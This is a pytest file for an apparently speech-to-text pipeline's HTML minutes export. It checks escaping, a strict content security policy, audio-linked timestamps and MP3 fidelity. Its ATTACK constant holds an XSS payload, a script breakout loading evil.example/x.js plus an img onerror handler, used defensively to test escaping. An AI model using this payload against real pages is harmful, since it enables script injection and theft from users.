"""The HTML page: it loads nothing from elsewhere, runs no text of a recording, and its times play the audio."""

import base64
import hashlib
import re
from collections.abc import Sequence
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pytest

from stt_pipeline.audio.playable import mp3
from stt_pipeline.audio.sound import SoundFile, SoundInMemory
from stt_pipeline.minutes.exports import ExportContent, export
from stt_pipeline.minutes.model import ActionItem, Minutes
from stt_pipeline.minutes.page import html_page
from stt_pipeline.speech.transcript import Segment, Transcript
from stt_pipeline_tests.conftest import SAMPLES

ATTACK = '</script><script src="https://evil.example/x.js"></script><img src=//evil.example onerror=alert(1)>'
SEGMENTS = (
    Segment(0.5, 2.0, "시작하겠습니다.", (), "SPEAKER_00"),
    Segment(2.5, 4.0, ATTACK, (), "SPEAKER_01"),
    Segment(4.0, 5.0, "Thanks for watching.", hallucination_reasons=("known_hallucination",)),
)
TRANSCRIPT = Transcript("ko", 0.99, 6.0, "demo", SEGMENTS, (ATTACK,))
MINUTES = Minutes(
    ATTACK, "요약.", ("예산",), ("결정.",), (ActionItem(ATTACK, "김 과장", None, 2.5),), (ATTACK,)
)


class Elements(HTMLParser):
    """All start tags of a page with their attributes."""

    def __init__(self, page: bytes) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page.decode())

    def handle_starttag(self, tag: str, attrs: Sequence[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def of(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.found if name == tag]


def test_it_loads_nothing_and_runs_only_its_own_script() -> None:
    page = html_page([ExportContent(ATTACK, TRANSCRIPT, MINUTES, audio=lambda: b"sound")] * 2, title=ATTACK)
    elements = Elements(page)
    addresses = [
        value
        for _, attributes in elements.found
        for name, value in attributes.items()
        if name in ("src", "href", "srcset", "action", "poster") and value
    ]
    assert addresses
    assert all(address.startswith(("data:audio/mpeg;base64,", "#recording-")) for address in addresses)
    assert [attributes for attributes in elements.of("script") if attributes] == []
    assert len(elements.of("script")) == 1
    assert elements.of("img") == []
    assert not [name for _, attributes in elements.found for name in attributes if name.startswith("on")]
    (policy,) = (a["content"] for a in elements.of("meta") if a.get("http-equiv"))
    assert policy is not None
    assert policy.startswith("default-src 'none'; ")
    assert "@import" not in page.decode() and "url(" not in page.decode()


def test_the_policy_allows_exactly_the_script() -> None:
    page = html_page([ExportContent("a.wav", TRANSCRIPT)]).decode()
    (script,) = re.findall(r"<script>(.*?)</script>", page, flags=re.S)
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}'" in page


def test_times_are_buttons_where_there_is_audio_and_plain_text_elsewhere() -> None:
    with_audio = Elements(html_page([ExportContent("a.wav", TRANSCRIPT, MINUTES, audio=lambda: b"sound")]))
    (audio,) = with_audio.of("audio")
    assert audio["src"] == "data:audio/mpeg;base64," + base64.b64encode(b"sound").decode()
    # one in the table of action items
    assert [a["data-start"] for a in with_audio.of("button")] == ["2.5", "0.5", "2.5", "4.0"]
    without = Elements(export("html", name="a.wav", transcript=TRANSCRIPT, minutes=MINUTES))
    assert without.of("button") == without.of("audio") == []
    assert len(without.of("time")) == 4


def test_speakers_notes_and_doubts_are_shown() -> None:
    page = export("html", name="주간 회의.wav", transcript=TRANSCRIPT).decode()
    assert '<html lang="ko">' in page
    assert "<h2>주간 회의.wav</h2>" in page
    assert "<b>화자 1</b> 시작하겠습니다." in page
    assert "Thanks for watching. (?)" in page
    assert '<p class="note">&lt;/script&gt;' in page


@pytest.mark.slow
def test_the_playable_copy_is_as_long_as_the_recording_and_not_silent() -> None:
    for name in ("hiring-plan.flac", "주간 회의.m4a", "telephone-support.wav"):
        original = SoundFile(Path(SAMPLES, name))
        content = mp3(original)
        seconds = sum(len(block) for block in original.blocks()) / 16_000
        assert len(content) == pytest.approx(seconds * 4_000, rel=0.02)


def test_the_playable_copy_has_the_same_sound_at_the_same_time(tmp_path: Path) -> None:
    samples = np.zeros(5 * 16_000, np.float32)
    samples[3 * 16_000 : 4 * 16_000] = 0.5 * np.sin(2 * np.pi * 440 * np.arange(16_000) / 16_000)
    (tmp_path / "copy.mp3").write_bytes(mp3(SoundInMemory(samples)))
    copy = np.concatenate(list(SoundFile(tmp_path / "copy.mp3").blocks()))
    loud = np.flatnonzero(np.abs(copy) > 0.25) / 16_000
    assert loud[0] == pytest.approx(3.0, abs=0.1)
    assert loud[-1] == pytest.approx(4.0, abs=0.1)
